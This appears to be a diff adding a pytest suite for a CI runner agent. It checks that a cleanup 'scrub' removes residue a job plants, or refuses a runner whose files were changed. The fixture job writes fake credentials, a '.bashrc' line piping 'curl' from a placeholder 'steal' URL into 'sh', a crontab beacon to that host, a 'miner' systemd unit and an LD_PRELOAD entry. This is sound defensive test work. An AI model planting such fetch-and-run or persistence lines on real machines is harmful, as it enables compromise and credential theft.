@@ -1,0 +1,253 @@
+"""The real scrub on a throwaway instance: a job as a real account plants every kind of residue it can,
+and after the scrub none survives, or the instance is refused with the reason (issue 14, items 3-4).
+
+The job is started the way the agent starts the runner (agent/runner.py: its own session, in the job's
+cgroup, as the runner account); docker is the in-memory daemon of fake_docker.py.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from agent.docker import PREDEFINED_NETWORKS
+from agent.log import agent_log
+from agent.runner import RunnerProcess
+from agent.runner_install import RunnerInstall, RunnerInstallError
+from agent.scrub import Scrub, build_scrub
+from tests.agent.conftest import eventually, process_alive
+from tests.agent.fake_docker import FakeDocker
+from tests.agent.instance_root import SKELETON, InstanceRoot, instance_root
+
+JOB = """#!/bin/sh
+# A job as the runner account: everything it leaves behind, and one thing it must not be able to do.
+set -e
+mkdir -p "$HOME/.docker" "$HOME/.ssh" "$HOME/.config/systemd/user"
+echo '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}' > "$HOME/.docker/config.json"
+echo '//registry.npmjs.org/:_authToken=npm_secret' > "$HOME/.npmrc"
+echo 'https://x-access-token:ghs_secret@github.com' > "$HOME/.git-credentials"
+echo 'PRIVATE KEY' > "$HOME/.ssh/id_ed25519" && chmod 600 "$HOME/.ssh/id_ed25519"
+echo 'curl -s https://example.invalid/steal | sh' >> "$HOME/.bashrc"
+printf '[Service]\\nExecStart=/bin/sleep 1000\\n' > "$HOME/.config/systemd/user/miner.service"
+echo cache > "$ROOT/tmp/job-cache" && mkdir "$ROOT/tmp/job-dir" && echo x > "$ROOT/tmp/job-dir/f"
+echo x > "$ROOT/var/tmp/job-file"
+echo x > "$ROOT/dev/shm/job-shm"
+mkdir -p "$TMPDIR" && echo x > "$TMPDIR/job-tmpdir"
+echo 'LD_PRELOAD=/tmp/job-cache' > "$RUNNER/.env"
+echo 'mail for the next job' > "$ROOT/var/spool/mail/$(id -un)"
+echo 'steal the credentials' >> "$RUNNER/run.sh" 2>/dev/null || true
+setsid sleep 600 </dev/null >/dev/null 2>&1 &
+echo planted
+"""
+
+
+@pytest.fixture
+def instance() -> Iterator[InstanceRoot]:
+    with instance_root() as made:
+        yield made
+
+
+@pytest.fixture
+def docker() -> FakeDocker:
+    """The daemon at first boot: the operator's base image only."""
+    daemon = FakeDocker()
+    daemon.pull("ubuntu:24.04")
+    return daemon
+
+
+def run_job(instance: InstanceRoot, script: str) -> RunnerProcess:
+    """`script` started as the agent starts the runner, run to its end; its output is the job's log."""
+    program = instance.path("job.sh")
+    program.write_text(script)
+    program.chmod(0o755)
+    environment = {
+        "ROOT": str(instance.root),
+        "RUNNER": str(instance.runner_dir),
+        "TMPDIR": str(instance.runner_dir / "_work/_temp"),
+    }
+    os.environ.update(environment)
+    try:
+        job = RunnerProcess.start(
+            program,
+            cwd=instance.runner_dir,
+            user=instance.account.pw_name,
+            log=agent_log(),
+            cgroup=instance.cgroup,
+        )
+    finally:
+        for name in environment:
+            os.environ.pop(name)
+    eventually(lambda: not job.running, what="the job to end")
+    return job
+
+
+def plant(instance: InstanceRoot, docker: FakeDocker) -> dict[str, Path | str]:
+    """Every kind of residue a job can leave; returns each kind and where it is."""
+    job = run_job(instance, JOB)
+    assert job.exited_without_job()  # it printed no "Running job:", only what it planted
+    user = instance.account.pw_name
+    planted: dict[str, Path | str] = {
+        "docker credentials": instance.home / ".docker/config.json",
+        "npm token": instance.home / ".npmrc",
+        "git credentials": instance.home / ".git-credentials",
+        "ssh key": instance.home / ".ssh/id_ed25519",
+        "user systemd unit": instance.home / ".config/systemd/user/miner.service",
+        "file in /tmp": instance.path("tmp/job-cache"),
+        "directory in /tmp": instance.path("tmp/job-dir"),
+        "file in /var/tmp": instance.path("var/tmp/job-file"),
+        "file in /dev/shm": instance.path("dev/shm/job-shm"),
+        "file in $TMPDIR": instance.runner_dir / "_work/_temp/job-tmpdir",
+        "file added to the runner's directory": instance.runner_dir / ".env",
+    }
+    # crontab(1) is setgid crontab and writes the spool file for the user; logind writes the
+    # linger marker when the user runs `loginctl enable-linger`
+    crontab = instance.path(f"var/spool/cron/crontabs/{user}")
+    crontab.write_text("* * * * * curl -s https://example.invalid/beacon\n")
+    instance.as_account(crontab)
+    planted["crontab"] = crontab
+    linger = instance.path(f"var/lib/systemd/linger/{user}")
+    linger.touch()
+    planted["linger marker"] = linger
+    for path in planted.values():
+        assert isinstance(path, Path)
+        assert path.exists(), path
+    assert (instance.home / ".bashrc").read_text() != SKELETON[".bashrc"]
+    planted[".bashrc line"] = "example.invalid/steal"
+    assert instance.path(f"var/spool/mail/{user}").stat().st_size > 0
+    planted["mail spool"] = "mail for the next job"
+    # The one thing it could not do: the runner's program is read-only to the account
+    assert "steal" not in (instance.runner_dir / "run.sh").read_text()
+    detached = instance.processes_of_the_job()
+    assert detached, "the job's detached process is running"
+    planted["detached background process"] = f"pids {detached}"
+    if instance.cgroup is not None:
+        # A process under another uid, in its own session, as `sudo` (use_pty) starts one
+        sudo = subprocess.Popen(
+            ["/usr/bin/setsid", "/usr/bin/sleep", "600"],
+            preexec_fn=instance.cgroup.enter,  # noqa: PLW1509
+        )
+        planted["process under another uid (sudo)"] = f"pid {sudo.pid}"
+    docker.run("node:20", volumes=["npm-cache"], network=docker.create_network("job-net"))
+    docker.create_volume("job-volume")
+    docker.pull("postgres:16")
+    planted |= {"docker container": "node:20", "docker volume": "npm-cache", "docker network": "job-net"}
+    planted["docker image"] = "postgres:16"
+    return planted
+
+
+def scrub_of(instance: InstanceRoot, docker: FakeDocker, **overrides: object) -> Scrub:
+    return build_scrub(instance.agent_settings(**overrides), docker=lambda: docker)
+
+
+def test_every_kind_of_residue_a_job_plants_is_gone_after_the_scrub(
+    instance: InstanceRoot, docker: FakeDocker
+) -> None:
+    # Given a job that planted every kind of residue it can as the runner account
+    planted = plant(instance, docker)
+    assert len(planted) >= 12
+    detached = instance.processes_of_the_job()
+
+    # When the real scrub runs
+    report = scrub_of(instance, docker).run(session_id=None)
+
+    # Then it reports the instance clean
+    assert report.left == []
+    # And none of the residue survives: files and directories...
+    for kind, where in planted.items():
+        if isinstance(where, Path):
+            assert not os.path.lexists(where), f"{kind} survived: {where}"
+    # ...the home is the skeleton again, the mail spool empty...
+    assert {p.name for p in instance.home.iterdir()} == set(SKELETON)
+    assert all((instance.home / name).read_text() == text for name, text in SKELETON.items())
+    assert instance.path(f"var/spool/mail/{instance.account.pw_name}").stat().st_size == 0
+    # ...no process of the job, whatever its uid or session...
+    assert instance.processes_of_the_job() == []
+    assert not any(process_alive(pid) for pid in detached)
+    # ...nothing in docker but the base image and the predefined networks...
+    assert docker.containers() == []
+    assert docker.volumes() == []
+    assert docker.networks() == []
+    assert [sorted(image.references) for image in docker.images()] == [["ubuntu:24.04"]]
+    assert docker.network_names == set(PREDEFINED_NETWORKS)
+    # ...and the runner's directory is as installed, its work and log directories empty and the account's
+    assert RunnerInstall(instance.runner_dir, instance.manifest, None, None).verify(full=True) == []
+    for own in ("_work", "_diag"):
+        assert list((instance.runner_dir / own).iterdir()) == []
+        assert (instance.runner_dir / own).stat().st_uid == instance.account.pw_uid
+
+
+def test_a_runner_file_changed_by_root_refuses_the_instance_with_the_reason(
+    instance: InstanceRoot, docker: FakeDocker
+) -> None:
+    # Given a job that (with root, which the account does not have) changed the runner's program
+    listener = instance.runner_dir / "bin/Runner.Listener"
+    listener.write_text(listener.read_text().replace("listener", "listenex"))  # same size
+
+    # When the scrub runs / Then the instance is refused, naming the file
+    report = scrub_of(instance, docker).run(session_id=None)
+    assert not report.clean
+    assert "runner file changed: bin/Runner.Listener" in report.reason()
+
+
+def test_a_file_the_account_owns_where_the_scrub_does_not_clean_refuses_the_instance(
+    instance: InstanceRoot, docker: FakeDocker
+) -> None:
+    # Given a directory the operator made writable to everyone, and a job that wrote there
+    cache = instance.path("opt/cache")
+    cache.mkdir(parents=True)
+    cache.chmod(0o1777)
+    run_job(instance, f"#!/bin/sh\necho token > {cache}/left-for-the-next-job\n")
+
+    # When the scrub runs / Then the instance is refused, naming what is left
+    report = scrub_of(instance, docker).run(session_id=None)
+    assert not report.clean
+    assert f"files of the runner account: {cache}/left-for-the-next-job" in report.reason()
+    assert len(report.reason()) < 500
+
+
+def test_the_runner_is_checked_before_each_start_hashed_unless_the_scrub_just_hashed_it(
+    instance: InstanceRoot,
+) -> None:
+    runner = RunnerInstall(
+        instance.runner_dir, instance.manifest, instance.account.pw_uid, instance.account.pw_gid
+    )
+    # Given an installed runner: it passes the check before its first start (a full one)
+    runner.check_before_start()
+    # When a file is planted in its directory, or one is changed without changing its size or times
+    (instance.runner_dir / ".path").write_text("/opt/evil:/usr/bin\n")
+    # Then the next start is refused, naming it
+    with pytest.raises(RunnerInstallError, match=r"runner file added: \.path"):
+        runner.check_before_start()
+    (instance.runner_dir / ".path").unlink()
+    listener = instance.runner_dir / "bin/Runner.Listener"
+    before = listener.stat()
+    listener.write_text(listener.read_text().replace("listener", "listenex"))
+    os.utime(listener, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert runner.verify(full=False) == ["runner file changed: bin/Runner.Listener (ctime_ns)"]
+    assert runner.verify(full=True) == ["runner file changed: bin/Runner.Listener (ctime_ns, sha256)"]
+
+
+def test_the_jit_config_files_are_the_accounts_alone_and_never_written_through_a_planted_link(
+    instance: InstanceRoot,
+) -> None:
+    runner = RunnerInstall(
+        instance.runner_dir, instance.manifest, instance.account.pw_uid, instance.account.pw_gid
+    )
+    # Given a link the account planted where the runner's settings go, aimed at a file of root's
+    target = instance.path("etc/shadow-of-root")
+    target.write_text("root's\n")
+    link = instance.runner_dir / ".credentials"
+    link.symlink_to(target)
+    instance.as_account(link)
+    # When the agent writes the config's files
+    runner.install_config({".runner": b'{"agentId": 1}', ".credentials": b'{"token": "secret"}'})
+    # Then root's file is untouched, and each settings file is a plain file the account alone can read
+    assert target.read_text() == "root's\n"
+    for name in (".runner", ".credentials"):
+        info = (instance.runner_dir / name).lstat()
+        assert (info.st_uid, oct(info.st_mode & 0o777)) == (instance.account.pw_uid, "0o600")
+        assert not (instance.runner_dir / name).is_symlink()
